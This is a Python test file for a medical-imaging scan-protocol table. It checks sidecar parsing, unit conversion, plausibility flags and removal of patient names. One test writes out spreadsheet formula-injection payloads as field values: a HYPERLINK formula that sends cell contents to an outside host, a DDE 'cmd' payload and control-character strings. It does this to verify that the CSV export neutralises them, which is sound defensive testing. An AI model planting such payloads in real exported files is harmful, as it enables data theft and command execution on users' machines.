import csv
import io
import json
from pathlib import Path

import pytest

from experiments.folder.files import PROTOCOL
from experiments.study.manifest import Rois, read_manifest
from experiments.study.protocol import protocol_table, scan_protocol

HEADER = "subject,sequence,scan,image\n"


@pytest.fixture
def scans(tmp_path):
    def make(**sidecars):
        rows = [f"{name},T2,REF,{name}.nii.gz" for name in sidecars]
        (tmp_path / "images.csv").write_text(HEADER + "\n".join(rows) + "\n", encoding="utf-8")
        for name, content in sidecars.items():
            (tmp_path / f"{name}.nii.gz").touch()
            if content is not None:
                (tmp_path / f"{name}.json").write_text(json.dumps(content), encoding="utf-8")
        return read_manifest(tmp_path / "images.csv", tmp_path, ("scan",), Rois())

    return make


def test_one_row_a_scan_and_one_column_a_stated_parameter(scans):
    protocols = map(
        scan_protocol,
        scans(A={"EchoTime": 0.09, "PatientName": "Doe"}, B=None, C={"FlipAngle": 400}, D={"Manufacturer": "Philips"}),
    )
    table = protocol_table(protocols)
    columns = ["subject", "sequence", "condition", "source", "manufacturer", "echo_time_ms", "implausible"]
    assert list(table.columns) == columns
    assert table["source"].tolist() == ["sidecar", "", "sidecar", "sidecar"]
    assert table["echo_time_ms"].tolist()[0] == 90.0
    assert table["echo_time_ms"].isna().tolist() == [False, True, True, True]
    assert table["implausible"].tolist() == ["", "", "flip_angle: 400.0", ""]
    assert "Doe" not in table.to_csv()


def test_a_broken_sidecar_does_not_stop_the_others(scans):
    made = scans(A=[1], B={"EchoTime": 0.1})
    broken, sound = map(scan_protocol, made)
    assert "expected an object" in str(broken.error)
    assert (sound.error, dict(sound.protocol.values)) == (None, {"echo_time": 100.0})


def test_a_folder_of_slices_is_a_scan(tmp_path, write_slices):
    write_slices(tmp_path / "A", [[[1, 2], [3, 4]]], EchoTime=90)
    (tmp_path / "images.csv").write_text(HEADER + "A,T2,REF,A\n", encoding="utf-8")
    (scan,) = read_manifest(tmp_path / "images.csv", tmp_path, ("scan",), Rois())
    table = protocol_table([scan_protocol(scan)])
    assert table.loc[0, ["source", "echo_time_ms"]].tolist() == ["DICOM", 90.0]
    assert scan.image == Path(tmp_path / "A")


def test_what_a_header_says_is_no_formula_and_no_control_character(scans, tmp_path):
    """`=HYPERLINK(...)` as manufacturer stood in protocol.csv as it was, where a spreadsheet carries it out."""
    made = scans(
        A={"Manufacturer": '=HYPERLINK("http://x.org?"&A1)', "EchoTime": 0.09},
        B={"Manufacturer": "+cmd|' /C calc'!A0", "EchoTime": 0.09},
        C={"Manufacturer": "Sie\x1b[2Jmens\r\n=1+1", "EchoTime": 0.09},
        D={"Manufacturer": "\t@SUM(1)", "EchoTime": 0.09},
        E={"Manufacturer": "-5", "EchoTime": 0.09},
    )
    PROTOCOL.write(tmp_path, protocol_table(map(scan_protocol, made)))
    text = (tmp_path / "protocol.csv").read_text(encoding="utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert [cell for cell in cells if cell.startswith("-")] == ["-5"]
    assert not set(text) & set("\x1b\r\t")
